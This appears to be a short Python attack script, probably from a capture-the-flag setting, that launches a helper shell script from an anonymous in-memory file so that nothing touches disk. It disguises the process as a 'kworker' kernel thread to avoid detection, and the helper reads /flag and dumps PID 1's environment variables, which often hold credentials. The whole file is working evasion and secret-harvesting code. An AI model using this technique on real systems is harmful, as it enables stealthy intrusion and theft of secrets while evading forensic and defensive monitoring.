"""Fileless helper launch: the helper script lives only in an anonymous
memory file and is executed through its descriptor (fexecve), so nothing
is written to disk and no path appears in the exec call."""
import os

HELPER = b"#!/bin/sh\nid\ncat /flag\ncat /proc/1/environ | tr '\\0' '\\n'\n"


def launch():
    fd = os.memfd_create("kworker-cache", 0)          # no MFD_CLOEXEC: the
    os.write(fd, HELPER)                              # interpreter re-opens it
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(fd, ["kworker"], {"PATH": "/usr/bin:/bin"})
        finally:
            os._exit(127)
    os.waitpid(pid, 0)
    os.close(fd)


if __name__ == "__main__":
    launch()
